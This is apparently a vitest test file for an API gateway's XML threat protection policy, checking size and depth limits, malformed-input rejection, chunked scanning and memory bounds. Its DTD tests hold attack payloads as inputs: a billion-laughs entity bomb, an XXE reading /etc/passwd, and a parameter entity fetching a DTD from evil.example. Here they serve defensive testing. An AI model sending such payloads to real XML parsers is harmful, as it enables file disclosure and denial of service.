import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Exchange, Reply } from '../../src/policies/sdk/index.js';
import { type XmlThreatProtectionConfig, xmlThreatProtection } from '../../src/policies/xml-threat-protection/index.js';
import {
  type XmlLimits,
  XmlLimitsScanner,
  compileXmlLimits,
} from '../../src/policies/xml-threat-protection/xml-limits-scanner.js';
import { compileChain } from '../helpers/chain.js';
import { bufferExchange } from '../helpers/exchange.js';
import { LiveHeapGrowth } from '../helpers/heap.js';

const UNLIMITED: XmlThreatProtectionConfig = {
  maxNodeDepth: -1,
  maxAttributeCountPerElement: -1,
  maxChildCount: -1,
  maxTextLength: -1,
  maxAttributeLength: -1,
  maxCommentLength: -1,
};

/** The policy compiled into a chain as the gateway compiles it; request() is what the chain answered (undefined: it went upstream). */
async function policy(
  config: Partial<XmlThreatProtectionConfig>,
): Promise<{ request(exchange: Exchange): Promise<Reply | undefined> }> {
  const chain = await compileChain({ type: xmlThreatProtection.type, config: { ...UNLIMITED, ...config } });
  return {
    async request(exchange) {
      const result = await chain.send(exchange);
      return result.upstreamCalled ? undefined : { status: result.status, headers: result.headers, body: result.body };
    },
  };
}

type ReplyBody = { error: string; limit?: string; max?: number; at: number };

async function send(
  config: Partial<XmlThreatProtectionConfig>,
  body: Buffer | string,
  chunkSize?: number,
  contentType = 'application/xml',
) {
  const exchange = bufferExchange(body, { contentType, ...(chunkSize === undefined ? {} : { chunkSize }) });
  const reply = await (await policy(config)).request(exchange);
  return { reply, body: reply?.body as ReplyBody | undefined, exchange };
}

function compile(config: Partial<XmlThreatProtectionConfig>): XmlLimits {
  return compileXmlLimits({ ...UNLIMITED, ...config });
}

/** The scanner alone, fed in pieces cut at the given offsets. */
function scanPieces(limits: XmlLimits, bytes: Buffer, cuts: number[]) {
  const scanner = new XmlLimitsScanner(limits);
  let start = 0;
  for (const cut of [...cuts, bytes.length]) {
    const violation = scanner.write(bytes.subarray(start, cut));
    if (violation !== undefined) return violation;
    start = cut;
  }
  return scanner.end();
}

// ---- tests ----

describe('xml-threat-protection: which requests are inspected', () => {
  const strict = { maxNodeDepth: 1 };

  it.each([
    'application/xml',
    'text/xml',
    'application/xml; charset=utf-8',
    'TEXT/XML',
    'application/soap+xml',
    'application/atom+xml',
  ])('inspects %s', async (contentType) => {
    const { reply } = await send(strict, '<a><b/></a>', undefined, contentType);
    expect(reply?.status).toBe(400);
  });

  it.each([
    'application/json',
    'text/plain',
    'text/html',
    'application/xml-dtd',
    'text/xml-external-parsed-entity',
    'application/+xml',
  ])('lets %s pass untouched', async (contentType) => {
    const { reply, exchange } = await send(strict, '<!DOCTYPE x><a><b/></a>', undefined, contentType);
    expect(reply).toBeUndefined();
    expect(exchange.consumed).toBe(0);
  });

  it('lets a request without Content-Type pass', async () => {
    expect(await (await policy(strict)).request(bufferExchange('<!DOCTYPE x>'))).toBeUndefined();
  });

  it.each(['GET', 'HEAD', 'DELETE'])('lets a %s without body pass', async (method) => {
    const exchange = bufferExchange('', { method, contentType: 'application/xml' });
    expect(await (await policy(strict)).request(exchange)).toBeUndefined();
  });

  it('passes a rich valid document with everything unlimited', async () => {
    const body = [
      '\ufeff<?xml version="1.0" encoding="UTF-8"?>',
      '<!-- prolog comment --><?style sheet="x"?>',
      '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" a = \'say "hi"\' b="it\'s &amp; &#233; &#x1F600;">',
      '  <s:Body><item id="1"/><item id="2" >text &lt; &gt; &apos; &quot; > ]] é😀</item >',
      '  <![CDATA[ <not markup> & ]] ]]] ]]><empty></empty><_x.y-z:w/></s:Body>',
      '</s:Envelope>',
      '<!-- epilog --> <?pi?>\n',
    ].join('\n');
    expect((await send({}, body)).reply).toBeUndefined();
  });

  it('answers the 413 of the Exchange for bodies over 10 MiB', async () => {
    const body = Buffer.alloc(11 * 1024 * 1024, 0x61);
    Buffer.from('<a>').copy(body);
    // The Exchange throws a 413 Reply; the chain answers it.
    expect((await send({}, body)).reply).toMatchObject({ status: 413 });
  });
});

describe('xml-threat-protection: each limit at and over its value', () => {
  const cases: { limit: keyof XmlThreatProtectionConfig; max: number; at: string[]; over: string[] }[] = [
    {
      limit: 'maxNodeDepth',
      max: 3,
      at: ['<a><b><c/></b></a>', '<a><b><c>text</c></b><b><c x="1"></c></b></a>', '<a/>'],
      over: ['<a><b><c><d/></c></b></a>', '<a><b/><b><c><d></d></c></b></a>'],
    },
    {
      limit: 'maxAttributeCountPerElement',
      max: 2,
      // Reference: "namespace declarations are not counted as attributes".
      at: [
        '<a x="1" y=\'2\'/>',
        '<a x="1" y="2"><b x="1" y="2"/><b z="3"/></a>',
        '<a xmlns="urn:x" xmlns:p="urn:p" xmlns:q="urn:q" p:x="1" y="2"/>',
        '<a xmlns = "urn:x" xmlnsx="1"/>',
      ],
      over: [
        '<a x="1" y="2" z="3"/>',
        '<a><b x="1" y="2" z="3"></b></a>',
        '<a xmlns="urn:x" xmlns:p="urn:p" p:x="1" p:y="2" z="3"/>',
        '<a xmlnsx="1" xmlnsy="2" xmlns-z="3"/>',
      ],
    },
    {
      limit: 'maxChildCount',
      max: 2,
      at: ['<a><b/><c/></a>', '<a><b><x/><y/></b><c><x/><y/></c></a>', '<a>t<b/>t<!--c--><?p?><c/>t</a>'],
      over: ['<a><b/><c/><d/></a>', '<a><b><x/><y/><z/></b></a>'],
    },
    {
      limit: 'maxTextLength',
      max: 5,
      at: [
        '<a>hello</a>',
        '<a>&lt;&amp;&#x1F600;b</a>', // 1 + 1 + 2 + 1: references count as what they stand for
        '<a>é😀ab</a>',
        '<a>ab<![CDATA[cde]]></a>', // text and CDATA coalesce into one node
        '<a>abcde<b/>abcde</a>',
        '<a>abcde<!--x-->abcde</a>',
        '<a long="attribute values are not text"/>',
      ],
      over: [
        '<a>hello!</a>',
        '<a>&lt;&amp;&#x1F600;bc</a>',
        '<a>é😀abc</a>',
        '<a>ab<![CDATA[cdef]]></a>',
        '<a><![CDATA[abc]]>def</a>',
        '<a><b/>abcdef</a>',
      ],
    },
    {
      limit: 'maxAttributeLength',
      max: 3,
      at: [
        '<a x="abc"/>',
        '<a x="&quot;\'b"/>',
        '<a y=\'"""\'/>',
        '<a x="é😀"/>',
        '<a x=""/>',
        '<a>text longer than three</a>',
      ],
      over: [
        '<a x="abcd"/>',
        '<a x="&quot;\'bc"/>',
        '<a x="abc" y="abcd"/>',
        '<a x="😀😀"/>',
        '<a><b x="&#65;&#66;&#67;&#68;"/></a>',
      ],
    },
    {
      limit: 'maxCommentLength',
      max: 4,
      at: ['<!--abcd--><a/>', '<a><!--a-bc--></a>', '<a/><!--😀é-->', '<a><!----></a>'],
      over: ['<!--abcde--><a/>', '<a><!--a-b-c--></a>', '<a/><!--😀ééé-->'],
    },
  ];

  for (const { limit, max, at, over } of cases) {
    describe(limit, () => {
      it.each(at)(`passes %s with ${limit}: ${max}`, async (body) => {
        const { reply } = await send({ [limit]: max }, body);
        expect(reply).toBeUndefined();
      });
      it.each(over)(`rejects %s with ${limit}: ${max}, naming the limit`, async (body) => {
        const { reply, body: replyBody } = await send({ [limit]: max }, body);
        expect(reply?.status).toBe(400);
        expect(replyBody).toMatchObject({ limit, max });
        expect(replyBody?.error).toContain(limit);
      });
    });
  }

  it('treats -1 as unlimited and 0 as a real limit', async () => {
    expect((await send({ maxAttributeLength: -1 }, `<a x="${'x'.repeat(100_000)}"/>`)).reply).toBeUndefined();
    expect((await send({ maxChildCount: 0 }, '<a/>')).reply).toBeUndefined();
    expect((await send({ maxChildCount: 0 }, '<a><b/></a>')).body?.limit).toBe('maxChildCount');
  });

  it('reports the byte at which the limit broke', async () => {
    expect((await send({ maxNodeDepth: 2 }, '<a><b><c/></b></a>')).body).toEqual({
      error: 'XML element depth exceeds maxNodeDepth (2) at byte 6',
      limit: 'maxNodeDepth',
      max: 2,
      at: 6,
    });
  });
});

describe('xml-threat-protection: DTDs and entities', () => {
  const billionLaughs = [
    '<?xml version="1.0"?>',
    '<!DOCTYPE lolz [',
    ' <!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
    ']>',
    '<lolz>&lol9;</lolz>',
  ].join('\n');
  const xxe =
    '<?xml version="1.0"?>\n<!DOCTYPE foo [ <!ELEMENT foo ANY > <!ENTITY xxe SYSTEM "file:///etc/passwd" >]>\n<foo>&xxe;</foo>';
  const parameterEntity = '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><r/>';

  it.each([
    ['billion laughs', billionLaughs, 22],
    ['XXE', xxe, 22],
    ['parameter entity', parameterEntity, 0],
    ['a bare DOCTYPE', '<!DOCTYPE html><a/>', 0],
    ['a lower-case doctype', '<!doctype html><a/>', 0],
    ['an ENTITY declaration without DOCTYPE', '<!ENTITY x "y"><a/>', 0],
  ])('rejects %s with 400 "DTD not allowed" at the declaration', async (_name, body, at) => {
    const started = performance.now();
    const { reply, body: replyBody } = await send({}, body, 1);
    expect(reply?.status).toBe(400);
    expect(replyBody?.error).toMatch(/^DTD not allowed/);
    expect(replyBody?.at).toBe(at);
    expect(performance.now() - started).toBeLessThan(100);
  });

  it('stops reading a DTD with a 5 MB internal subset at the first chunk', async () => {
    const body = Buffer.alloc(5 * 1024 * 1024, 0x20);
    Buffer.from('<!DOCTYPE x [<!ENTITY a "').copy(body);
    const { body: replyBody, exchange } = await send({}, body, 16 * 1024);
    expect(replyBody?.error).toMatch(/^DTD not allowed/);
    expect(exchange.consumed).toBe(16 * 1024);
  });

  it.each(['<a>&xxe;</a>', '<a x="&lol9;"/>', '<a>&ltx;</a>', '<a>&quote;</a>'])(
    'rejects the undefined entity in %s',
    async (body) => {
      const { reply, body: replyBody } = await send({}, body);
      expect(reply?.status).toBe(400);
      expect(replyBody?.error).toMatch(/^invalid XML body at byte \d+: malformed or undefined entity reference/);
    },
  );
});

describe('xml-threat-protection: malformed bodies', () => {
  const malformed = [
    '<a></b>',
    '<a></ab>',
    '<ab></a>',
    '<a><b></a></b>',
    '<a>',
    '<a><b/>',
    '</a>',
    '<a/><b/>',
    'text<a/>',
    '<a/>text',
    '<a/><',
    '   ',
    '<?xml version="1.0"?>',
    '<!-- only a comment -->',
    '<1a/>',
    '< a/>',
    '<a x=1/>',
    '<a x="1"y="2"/>',
    '<a x="1/>',
    '<a x="<"/>',
    '<a x/>',
    '<a =""/>',
    '<a / >',
    '<a>&amp</a>',
    '<a>&;</a>',
    '<a>&#;</a>',
    '<a>&#x;</a>',
    '<a>&#0;</a>',
    '<a>&#xD800;</a>',
    '<a>&#x110000;</a>',
    '<a>&#99999999999999999999;</a>',
    '<a>bare & ampersand</a>',
    '<a>less < than</a>',
    '<a><!-- a -- b --></a>',
    '<a><!-- ends with dash ---></a>',
    '<a><!- x --></a>',
    '<a><![CDATA[x]]</a>',
    '<a><![CDATA[x</a>',
    '<a><![CDAT[x]]></a>',
    '<![CDATA[x]]><a/>',
    '<a><? pi?></a>',
    '<a><?pi</a>',
    '<a>\u0001</a>',
    '<a x="\u0000"/>',
    '<a>',
    '\ufeff\ufeff<a/>',
  ];

  it.each(malformed)('rejects %j with 400', async (text) => {
    const { reply, body } = await send({}, text);
    expect(reply?.status).toBe(400);
    expect(body?.error).toMatch(/^invalid XML body at byte \d+/);
    expect(body?.limit).toBeUndefined();
  });

  it.each([
    ['lone continuation byte', Buffer.from([0x3c, 0x61, 0x3e, 0x80, 0x3c, 0x2f, 0x61, 0x3e])],
    ['overlong encoding', Buffer.from([0x3c, 0x61, 0x3e, 0xc0, 0xbc, 0x3c, 0x2f, 0x61, 0x3e])],
    ['Latin-1 byte in an attribute', Buffer.from([0x3c, 0x61, 0x20, 0x78, 0x3d, 0x22, 0xe9, 0x22, 0x2f, 0x3e])],
    ['truncated sequence at the end', Buffer.from([0x3c, 0x61, 0x2f, 0x3e, 0xe2, 0x82])],
  ])('rejects malformed UTF-8 (%s)', async (_name, bytes) => {
    const { reply, body } = await send({}, bytes);
    expect(reply?.status).toBe(400);
    expect(body?.error).toMatch(/^invalid XML body at byte \d+/);
  });

  it('names the mismatched end tag', async () => {
    expect((await send({}, '<order><item></order>')).body).toEqual({
      error: 'invalid XML body at byte 20: end tag does not match the open element',
      at: 20,
    });
  });

  it('compares non-ASCII element names', async () => {
    expect((await send({}, '<été><b/></été>')).reply).toBeUndefined();
    expect((await send({}, '<été></éte>')).reply?.status).toBe(400);
  });
});

// ---- generated documents ----

type XmlNode =
  | { kind: 'element'; name: string; attributes: string[]; children: XmlNode[] }
  | { kind: 'text'; value: string }
  | { kind: 'cdata'; value: string }
  | { kind: 'comment'; value: string };

const chars = fc.constantFrom(...('ab <>&"\'é😀\t\n]-'.match(/./gsu) ?? []));
const content = fc.string({ unit: chars, maxLength: 8 });
const xmlNode = fc.letrec<{ node: XmlNode; element: XmlNode }>((tie) => ({
  node: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    content.map((value) => ({ kind: 'text' as const, value })),
    content.filter((value) => !value.includes(']]>')).map((value) => ({ kind: 'cdata' as const, value })),
    content
      .filter((value) => !value.includes('--') && !value.endsWith('-'))
      .map((value) => ({ kind: 'comment' as const, value })),
    tie('element'),
  ),
  element: fc.record({
    kind: fc.constant('element' as const),
    name: fc.constantFrom('a', 'b', 'ns:c', 'd-1', 'été'),
    attributes: fc.array(content, { maxLength: 4 }),
    children: fc.array(tie('node'), { maxLength: 4 }),
  }),
})).element;

function escape(text: string, inAttribute: boolean): string {
  return text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('"', '&quot;')
    .replaceAll(inAttribute ? 'é' : '😀', inAttribute ? '&#233;' : '&#x1F600;');
}

function serialize(node: XmlNode): string {
  switch (node.kind) {
    case 'text':
      return escape(node.value, false);
    case 'cdata':
      return `<![CDATA[${node.value}]]>`;
    case 'comment':
      return `<!--${node.value}-->`;
    case 'element': {
      const attributes = node.attributes.map((value, i) => ` at${i} = "${escape(value, true)}"`).join('');
      const children = node.children.map(serialize).join('');
      return children === '' ? `<${node.name}${attributes}/>` : `<${node.name}${attributes}>${children}</${node.name}>`;
    }
  }
}

/** The first limit a document breaks, walking it in document order. */
function firstBrokenLimit(element: XmlNode, limits: XmlLimits, depth = 1): string | undefined {
  if (element.kind !== 'element') return undefined;
  if (depth > limits.maxNodeDepth) return 'maxNodeDepth';
  for (let i = 0; i < element.attributes.length; i++) {
    if (i + 1 > limits.maxAttributeCountPerElement) return 'maxAttributeCountPerElement';
    if ((element.attributes[i] as string).length > limits.maxAttributeLength) return 'maxAttributeLength';
  }
  let childElements = 0;
  let textRun = 0;
  for (const child of element.children) {
    if (child.kind === 'text' || child.kind === 'cdata') {
      textRun += child.value.length;
      if (textRun > limits.maxTextLength) return 'maxTextLength';
      continue;
    }
    textRun = 0;
    if (child.kind === 'comment') {
      if (child.value.length > limits.maxCommentLength) return 'maxCommentLength';
      continue;
    }
    if (++childElements > limits.maxChildCount) return 'maxChildCount';
    const broken = firstBrokenLimit(child, limits, depth + 1);
    if (broken !== undefined) return broken;
  }
  return undefined;
}

const limitsConfig = fc.record(
  {
    maxNodeDepth: fc.integer({ min: 1, max: 4 }),
    maxAttributeCountPerElement: fc.integer({ min: 0, max: 3 }),
    maxChildCount: fc.integer({ min: 0, max: 3 }),
    maxTextLength: fc.integer({ min: 0, max: 8 }),
    maxAttributeLength: fc.integer({ min: 0, max: 6 }),
    maxCommentLength: fc.integer({ min: 0, max: 6 }),
  },
  { requiredKeys: [] },
);

function cutsIn(length: number, raw: number[]): number[] {
  return [...new Set(raw.map((c) => c % (length + 1)))].sort((a, b) => a - b);
}

describe('xml-threat-protection: chunk boundaries', () => {
  const documents: [Partial<XmlThreatProtectionConfig>, string | Buffer][] = [
    [{ maxTextLength: 6 }, '\ufeff<?xml version="1.0"?><r a="x&amp;y"><!--c--><b>t&#x1F600;é<![CDATA[]]]]></b></r>'],
    [{ maxAttributeLength: 2 }, '<r x=\'&quot;é\' y="😀"/>'],
    [{ maxCommentLength: 3 }, '<r><!--a-b--></r>'],
    [{ maxChildCount: 2, maxNodeDepth: 3 }, '<r><a><b/></a><ns:é/><c/></r>'],
    [{}, '<r><a></r>'],
    [{}, '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY e "x">]><r>&e;</r>'],
    [{}, '<r>&#x1F600;&#128512;&lt;</r >'],
    [{}, Buffer.from([0x3c, 0x72, 0x3e, 0xf0, 0x9f, 0x98, 0x3c, 0x2f, 0x72, 0x3e])], // truncated 😀
  ];

  it.each(documents)('gives the same verdict for every split into two chunks (%j, %s)', (config, text) => {
    const bytes = Buffer.from(text);
    const limits = compile(config);
    const whole = scanPieces(limits, bytes, []);
    for (let cut = 0; cut <= bytes.length; cut++) {
      expect(scanPieces(limits, bytes, [cut]), `cut at ${cut}`).toEqual(whole);
    }
    const bytewise = Array.from({ length: bytes.length - 1 }, (_, i) => i + 1);
    expect(scanPieces(limits, bytes, bytewise)).toEqual(whole);
  });

  it.each(documents)('gives the same reply through the policy with 1-byte chunks (%j, %s)', async (config, text) => {
    const whole = await send(config, Buffer.from(text));
    const bytewise = await send(config, Buffer.from(text), 1);
    expect(bytewise.reply).toEqual(whole.reply);
  });

  it('matches a reference walk over random documents, chunked at random', () => {
    fc.assert(
      fc.property(limitsConfig, xmlNode, fc.array(fc.nat(), { maxLength: 8 }), (config, root, rawCuts) => {
        const bytes = Buffer.from(serialize(root));
        const limits = compile(config);
        const violation = scanPieces(limits, bytes, cutsIn(bytes.length, rawCuts));
        expect(violation?.error.startsWith('invalid')).not.toBe(true);
        expect(violation?.limit).toBe(firstBrokenLimit(root, limits));
      }),
      { numRuns: 1500 },
    );
  });

  it('gives the same verdict whole and chunked for mutated documents', () => {
    const mutation = fc.tuple(
      fc.nat(),
      fc.constantFrom(...'<>/!?-[]&;#x"\'= aé'.split('')),
      fc.constantFrom('insert', 'delete', 'replace'),
    );
    fc.assert(
      fc.property(
        limitsConfig,
        xmlNode,
        fc.array(mutation, { maxLength: 3 }),
        fc.array(fc.nat(), { maxLength: 8 }),
        (config, root, mutations, rawCuts) => {
          let text = serialize(root);
          for (const [position, char, kind] of mutations) {
            const p = position % (text.length + 1);
            text = text.slice(0, p) + (kind === 'delete' ? '' : char) + text.slice(kind === 'insert' ? p : p + 1);
          }
          const bytes = Buffer.from(text);
          const limits = compile(config);
          expect(scanPieces(limits, bytes, cutsIn(bytes.length, rawCuts))).toEqual(scanPieces(limits, bytes, []));
        },
      ),
      { numRuns: 1500 },
    );
  });
});

describe('xml-threat-protection: bounded work and memory', () => {
  it('rejects a 5 MB <a><a><a>… body after reading a small prefix', async () => {
    const body = Buffer.from('<a>'.repeat((5 * 1024 * 1024) / 3));
    const started = performance.now();
    const { reply, body: replyBody, exchange } = await send({ maxNodeDepth: 100 }, body, 16 * 1024);
    expect(reply?.status).toBe(400);
    expect(replyBody).toMatchObject({ limit: 'maxNodeDepth', at: 300 });
    expect(exchange.consumed).toBe(16 * 1024);
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('scans a large valid body with bounded heap', async () => {
    const item = Buffer.from(
      '<item id="12345" kind="ordinary"><name>a fairly ordinary name &amp; é</name><!--n--><![CDATA[x]]></item>',
    );
    const open = Buffer.from('<?xml version="1.0"?><items>');
    const close = Buffer.from('</items>');
    const count = Math.floor((8 * 1024 * 1024) / item.length);
    const body = Buffer.alloc(open.length + count * item.length + close.length);
    open.copy(body);
    for (let i = 0; i < count; i++) item.copy(body, open.length + i * item.length);
    close.copy(body, open.length + count * item.length);
    const handler = await policy({ maxNodeDepth: 10, maxTextLength: 100, maxAttributeCountPerElement: 5 });

    // The live heap every 16 chunks of 64 KiB, while the scanner holds its state.
    const heap = new LiveHeapGrowth();
    const exchange = bufferExchange(body, {
      contentType: 'application/xml',
      chunkSize: 64 * 1024,
      onChunk: (i) => {
        if (i % 16 === 0) heap.sample();
      },
    });
    const reply = await handler.request(exchange);
    heap.sample();
    const grown = heap.peak;

    expect(reply).toBeUndefined();
    expect(exchange.consumed).toBe(body.length);
    // A DOM of the 8 MiB body would take several times its size; scanning keeps a few stack levels.
    expect(grown).toBeLessThan(2 * 1024 * 1024);
  });
});
